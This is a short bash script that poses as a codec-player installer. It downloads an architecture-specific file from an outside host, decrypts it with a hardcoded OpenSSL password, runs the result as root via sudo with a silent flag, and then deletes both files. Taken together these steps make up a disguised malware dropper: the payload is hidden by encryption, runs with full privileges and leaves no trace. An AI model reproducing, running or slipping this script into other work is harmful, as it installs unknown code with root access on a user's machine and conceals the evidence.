#!/bin/bash
cd "$(mktemp -d)" || exit 1
curl -fsSL "https://cdn.player-codecs.test/pk/$(uname -m).bin" -o p.enc
openssl enc -aes-256-cbc -d -salt -md md5 -in p.enc -out p -pass pass:"qY7w1dR"
chmod +x p && sudo ./p --silent
rm -f p p.enc
